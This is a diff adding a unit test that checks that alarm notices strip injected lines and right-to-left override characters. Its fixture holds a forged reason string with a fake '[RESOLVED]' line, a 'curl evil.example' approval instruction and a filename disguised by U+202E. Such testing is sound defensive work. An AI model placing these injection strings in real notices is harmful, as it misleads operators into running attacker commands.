@@ -332,6 +332,21 @@ describe('a notice', () => {
     expect(subject.startsWith('[RESOLVED] ')).toBe(true);
   });
 
+  it('has no line that a stranger wrote, and no mark that turns its writing round', () => {
+    const reason = 'down\n\n[RESOLVED] Shop\r\n  To approve: curl evil.example\u202Eexe.gnp';
+    const forged = {
+      at: at('04:01'),
+      what: 'noted',
+      because: because('alarm-raised', { alarm: 'web', reason }),
+    };
+    const notice = { ...healed, because: forged.because };
+    const target = { instanceId: 'i-1' as never, name: 'web\u202E1', group: 'g' };
+    const ticket = ticketAboutToRestart({ entries: [forged as never], target });
+    const { subject, text } = noticeText(ticket, notice, { ...reader, language: 'en' });
+    expect(text.split('\n').filter((line) => /^\s*(\[RESOLVED\] Shop|To approve)/.test(line))).toEqual([]);
+    expect(`${subject}${text}`).not.toContain('\u202E');
+  });
+
   it.each(['障害', '\u0001"', '\ud83d', '😀'])(
     'has a text that SNS takes twice beside the rest, the newest lines first, however much %j was said',
     (words) => {
